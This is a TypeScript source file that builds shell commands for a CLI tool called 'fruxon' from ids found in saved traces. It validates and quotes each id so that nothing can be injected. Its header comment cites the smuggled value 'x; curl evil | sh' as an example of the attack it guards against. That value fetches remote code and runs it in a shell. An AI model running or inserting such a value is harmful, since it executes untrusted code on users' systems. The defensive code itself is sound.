/**
 * `fruxon …` commands for a finding to offer, built from fixed words and ids taken from
 * the data (agent, run and topic ids). A saved trace is untrusted input: an id inside it
 * could be `x; curl evil | sh`. Every interpolated id must pass `isValidId` (no option-like
 * leading `-`, no whitespace or control characters) and becomes exactly one shell word,
 * quoted when it needs to be, so the copied command runs what it says and nothing else.
 * An id that is not an id yields no command at all (null) rather than a guess.
 */
import { isValidId } from "../ids";
import { shellWord } from "../format/shell-word";
import type { FindingCommand } from "./finding";

export function fruxonCommand(
  words: TemplateStringsArray,
  ...ids: string[]
): string | null {
  if (!ids.every(isValidId)) return null;
  return words.reduce(
    (line, word, index) =>
      index === 0 ? word : line + shellWord(ids[index - 1]!) + word,
    "",
  );
}

/** The commands that could be built, in order: those with no command or `false` are left out. */
export function offer(
  candidates: ({ command: string | null; note: string } | false)[],
): FindingCommand[] {
  return candidates.filter(
    (candidate): candidate is FindingCommand =>
      candidate !== false && candidate.command !== null,
  );
}
